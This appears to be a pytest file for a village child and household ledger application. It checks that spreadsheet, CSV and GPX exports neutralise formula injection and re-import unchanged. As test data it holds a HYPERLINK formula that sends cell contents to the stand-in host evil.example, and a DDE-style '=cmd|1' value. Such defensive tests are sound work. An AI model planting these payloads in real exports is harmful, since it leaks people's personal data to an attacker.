"""Text that a spreadsheet would run as a formula is neutralised (a leading ') in every
.xlsx and .csv we write; numbers stay numbers; our own export re-imports unchanged."""

import html
import io
import json
import re
import xml.etree.ElementTree as ET

import openpyxl
import pandas as pd
import pytest
import sqlalchemy as sa

from geo.ledgers.spreadsheet import neutralise, restore

EVIL = '=HYPERLINK("http://evil.example/?"&B2,"x")'


def test_neutralise_only_text():
    for text in ("=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(text) == "'" + text and restore(neutralise(text)) == text
    assert neutralise(-3) == -3 and neutralise(-2.5) == -2.5 and neutralise(None) is None
    assert neutralise("张三") == "张三" and restore("'张三") == "'张三"


def _strings(ws):
    return [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


def _no_formula(ws):
    for row in ws.iter_rows():
        for c in row:
            assert c.data_type != "f", (c.coordinate, c.value)
            if isinstance(c.value, str):
                assert not c.value.startswith(("=", "+", "-", "@", "\t", "\r")), c.value


@pytest.fixture
def evil_records(engine, logins):
    """A child named like a formula and a household whose address, head and phone start
    with formula characters, in the grid worker's village (restored afterwards)."""
    village = logins["grid_worker"]["unit"]
    with engine.begin() as c:
        child, hh, name, address, head, phone = c.execute(sa.text(
            "SELECT ch.id, h.id, ch.name, h.address, h.head_name, h.phone FROM child ch "
            "JOIN household h ON h.id = ch.household_id JOIN unit cl ON cl.id = h.cell_id "
            "JOIN unit v ON v.id = cl.village_id WHERE v.code = :v ORDER BY ch.id LIMIT 1"),
            {"v": village}).one()
        c.execute(sa.text("UPDATE child SET name = :n WHERE id = :id"),
                  {"n": EVIL, "id": child})
        c.execute(sa.text("UPDATE household SET address = '=1+2', head_name = '@SUM(1)', "
                          "phone = '+8613800000000' WHERE id = :id"), {"id": hh})
    yield {"child": child, "household": hh, "village": village}
    with engine.begin() as c:
        c.execute(sa.text("UPDATE child SET name = :n WHERE id = :id"),
                  {"n": name, "id": child})
        c.execute(sa.text("UPDATE household SET address = :a, head_name = :h, phone = :p "
                          "WHERE id = :id"), {"a": address, "h": head, "p": phone, "id": hh})


def test_ledger_export_is_inert_and_reimports_unchanged(as_role, evil_records):
    village = evil_records["village"]
    for kind, bad in (("children", "'" + EVIL), ("households", "'=1+2")):
        resp = as_role("admin", "GET", f"/api/exports/ledger?kind={kind}&unit={village}")
        ws = openpyxl.load_workbook(io.BytesIO(resp.data)).active
        assert bad in _strings(ws)
        _no_formula(ws)
        frame = pd.read_excel(io.BytesIO(resp.data), dtype=str)
        back = as_role("admin", "POST", "/api/imports", data={
            "kind": kind, "file": (io.BytesIO(resp.data), f"{kind}.xlsx")},
            content_type="multipart/form-data")
        report = back.get_json()
        assert back.status_code == 200 and report["errors"] == [], report
        assert (report["created"], report["updated"], report["unchanged"]) == \
            (0, 0, len(frame)), report
    # The records still hold the text as it was, without the quote.
    child = as_role("admin", "GET", f"/api/children/{evil_records['child']}").get_json()
    assert child["name"] == EVIL


def test_route_csv_and_gpx_are_inert(as_role, engine, evil_records):
    with engine.connect() as c:
        worker = c.execute(sa.text(
            "SELECT w.id FROM worker w JOIN worker_unit wu ON wu.worker_id = w.id "
            "JOIN unit u ON u.id = wu.unit_id JOIN household h ON h.id = :hh "
            "JOIN unit cl ON cl.id = h.cell_id "
            "WHERE w.active AND wu.unit_id IN (cl.id, cl.village_id) ORDER BY w.id LIMIT 1"),
            {"hh": evil_records["household"]}).scalar_one()
    url = f"?worker={worker}&date=2026-11-24&within_days=90"
    route = as_role("admin", "GET", "/api/routes" + url).get_json()
    assert "stops" in route, route
    assert any(s["household_id"] == evil_records["household"] for s in route["stops"]), route
    text = as_role("admin", "GET", "/api/routes.csv" + url).get_data(as_text=True)
    frame = pd.read_csv(io.StringIO(text.lstrip("\ufeff")), dtype=str)
    assert "'=1+2" in set(frame["地址"])
    assert any(v.startswith("'=HYPERLINK") for v in frame["儿童"])
    for col in frame.columns:
        assert not frame[col].str.startswith(("=", "+", "@", "\t", "\r")).any(), col
    gpx = ET.fromstring(as_role("admin", "GET", "/api/routes.gpx" + url).data)
    names = [n.text for n in gpx.iter("{http://www.topografix.com/GPX/1/1}name")]
    assert "'=1+2" in names and "=1+2" not in names


def test_monthly_report_xlsx_is_inert_and_keeps_numbers(as_role, engine, logins):
    village = logins["grid_worker"]["unit"]
    with engine.begin() as c:
        old = c.execute(sa.text("UPDATE unit SET name = '=cmd|1' WHERE code = :v "
                                "RETURNING (SELECT name FROM unit WHERE code = :v)"),
                        {"v": village}).scalar_one()
    try:
        data = as_role("admin", "GET", f"/api/reports/monthly?month=2026-11&unit={village}"
                                       "&format=xlsx").data
    finally:
        with engine.begin() as c:
            c.execute(sa.text("UPDATE unit SET name = :n WHERE code = :v"),
                      {"n": old, "v": village})
    book = openpyxl.load_workbook(io.BytesIO(data))
    for ws in book.worksheets:
        _no_formula(ws)
    ws = book["月报"]
    assert ws["A1"].value.startswith("'=cmd|1")
    numbers = [c.value for row in ws.iter_rows(min_row=3) for c in row[1:4]]
    assert all(isinstance(v, int) for v in numbers if v is not None)


def test_planner_csv_is_inert(tokens, client, engine):
    with engine.begin() as c:
        code, old = c.execute(sa.text(
            "UPDATE unit SET name = '-2+3' WHERE id = (SELECT min(id) FROM unit "
            "WHERE level = 'village') RETURNING code, (SELECT name FROM unit u2 "
            "WHERE u2.id = unit.id)")).one()
    try:
        page = client.get("/map/planner?type=children_home", headers={
            "Authorization": f"Bearer {tokens['planner']}"}).get_data(as_text=True)
    finally:
        with engine.begin() as c:
            c.execute(sa.text("UPDATE unit SET name = :n WHERE code = :c"),
                      {"n": old, "c": code})
    rows = re.search(r'data-rows="([^"]*)"', page).group(1)
    data = json.loads(html.unescape(rows))
    assert ["'-2+3"] == [r[0] for r in data if r[0].endswith("-2+3")]


def test_import_template_is_inert(as_role):
    for kind in ("households", "children", "facilities", "workers"):
        data = as_role("admin", "GET", f"/api/imports/template?kind={kind}").data
        _no_formula(openpyxl.load_workbook(io.BytesIO(data)).active)
